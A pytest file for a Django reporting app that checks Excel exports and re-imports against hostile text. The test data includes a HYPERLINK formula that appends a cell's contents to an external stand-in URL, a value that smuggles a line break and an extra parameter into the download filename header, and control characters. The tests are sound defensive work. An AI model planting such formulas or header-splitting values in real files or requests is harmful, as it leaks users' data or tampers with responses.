"""Hostile text in the realisasi exports: control characters, formula-like text, texts beyond Excel's limit,
an indicator code with a line break, and formulas an upload keeps no value for."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from indikator.models import Realisasi
from portal.models import JendelaInput
from portal.xlsx import BATAS_SEL, LEMBAR_TEKS_LENGKAP, TANDA_TERPOTONG
from tests.indikator.test_realisasi_views import TAHUN, indikator_unit, unit_url

KINERJA = ["Kode indikator", "Indikator", "Satuan", "Target", "Realisasi", "Analisis", "Kendala"]
ANGGARAN = ["Kode sub kegiatan", "Sub kegiatan", "Pagu", "Anggaran kas", "Realisasi anggaran"]


@pytest.fixture(autouse=True)
def jendela_terbuka(db):
    return JendelaInput.objects.create(tahun=TAHUN, triwulan=3)


@pytest.fixture
def indikator(kantor):
    return indikator_unit(kantor.opd, kantor.unit)


def template_url(opd, unit):
    return reverse("indikator:realisasi_template", kwargs={"opd": opd.pk, "tahun": TAHUN, "triwulan": 3,
                                                           "unit": unit.pk})


def impor_url(unit):
    return reverse("indikator:realisasi_impor", kwargs={"opd": unit.opd_id, "tahun": TAHUN, "triwulan": 3,
                                                         "unit": unit.pk})


def riwayat_url(indikator):
    return reverse("indikator:indikator_riwayat", args=[indikator.pk])


def _realisasi(indikator, analisis):
    return Realisasi.objects.create(indikator=indikator, tahun=TAHUN, triwulan=3, nilai=Decimal(4),
                                    analisis=analisis)


def _unggah(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = "templat.xlsx"
    return buffer


def test_control_characters_in_an_analysis_break_no_export_and_the_history_stays_readable(client, kantor, indikator):
    # (No NUL here: PostgreSQL cannot store one in text; the writer's own test covers it.)
    realisasi = _realisasi(indikator, "Naik\x0b tajam\x1b[31m karena\x08 bansos")
    client.force_login(kantor.perencana)
    for url in (unit_url(kantor.opd, kantor.unit) + "?format=xlsx", template_url(kantor.opd, kantor.unit)):
        response = client.get(url)
        assert response.status_code == 200
        rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(min_row=2, values_only=True))
        assert "Naik tajam[31m karena bansos" in rows[0]

    # The text is fixed, but the audit trail keeps the old one: its export must still open.
    realisasi.analisis = "Naik tajam karena bansos"
    realisasi.save()
    response = client.get(riwayat_url(indikator) + "?format=xlsx")
    assert response.status_code == 200
    cells = [v for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for v in row]
    assert "Naik tajam[31m karena bansos" in cells


def test_a_code_with_a_line_break_gives_a_valid_download_name(client, kantor):
    indikator = indikator_unit(kantor.opd, kantor.unit, kode="IKU\r\n1\"; x=1")
    client.force_login(kantor.perencana)
    response = client.get(riwayat_url(indikator) + "?format=xlsx")
    assert response.status_code == 200
    header = response["Content-Disposition"]
    assert header.startswith('attachment; filename="riwayat-IKU-1-x-1.xlsx"; filename*=UTF-8\'\'')
    assert "\r" not in header and "\n" not in header


def test_an_analysis_that_looks_like_a_formula_is_text_in_the_template_and_round_trips(client, kantor, indikator):
    teks = '=HYPERLINK("http://contoh.invalid/"&A2,"Lihat bukti")'
    _realisasi(indikator, teks)
    client.force_login(kantor.operator)
    workbook = load_workbook(io.BytesIO(client.get(template_url(kantor.opd, kantor.unit)).content))
    cell = workbook["Kinerja"]["F2"]
    assert cell.value == teks and cell.data_type == "s"
    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
    assert "Berkas sah, tetapi tidak ada yang berubah." in page


def test_a_long_analysis_is_cut_in_the_template_and_the_cut_text_is_never_stored_back(client, kantor, indikator):
    panjang = "Analisis capaian. " * 2500  # 45 000 characters
    _realisasi(indikator, panjang)
    client.force_login(kantor.operator)
    workbook = load_workbook(io.BytesIO(client.get(template_url(kantor.opd, kantor.unit)).content))
    cell = workbook["Kinerja"]["F2"].value
    assert len(cell) == BATAS_SEL and cell.endswith(TANDA_TERPOTONG)
    assert "".join(r[4] for r in workbook[LEMBAR_TEKS_LENGKAP].iter_rows(min_row=2, values_only=True)) == panjang

    # Uploaded back as downloaded: nothing changes, the stored text keeps all of its characters.
    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
    assert "Berkas sah, tetapi tidak ada yang berubah." in page

    # The number is changed and the cut text edited: the row is refused, nothing is imported.
    workbook["Kinerja"]["E2"].value = 5
    workbook["Kinerja"]["F2"].value = "Tambahan. " + cell[len("Tambahan. "):]
    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
    assert "Lembar Kinerja baris 2:" in page and "terpotong pada batas Excel (32.767 karakter)" in page
    client.post(impor_url(kantor.unit), {"aksi": "simpan"})
    saved = Realisasi.objects.get(indikator=indikator, triwulan=3)
    assert saved.analisis == panjang and saved.nilai == 4


def test_a_realisasi_formula_without_a_stored_value_is_reported_and_nothing_is_imported(client, kantor, indikator):
    workbook = Workbook()
    kinerja = workbook.active
    kinerja.title = "Kinerja"
    kinerja.append(KINERJA)
    kinerja.append([indikator.kode, "", "", 5, "=2+2", "Analisis yang tidak boleh hilang diam-diam", ""])
    workbook.create_sheet("Anggaran").append(ANGGARAN)
    client.force_login(kantor.operator)
    page = client.post(impor_url(kantor.unit), {"aksi": "pratinjau", "berkas": _unggah(workbook)}).content.decode()
    assert ("Lembar Kinerja baris 2: Realisasi: nilai rumus tidak tersimpan; simpan ulang berkas di Excel atau "
            "ketik nilainya.") in page
    assert "Tidak ada yang diimpor" in page
    assert not Realisasi.objects.filter(indikator=indikator).exists()
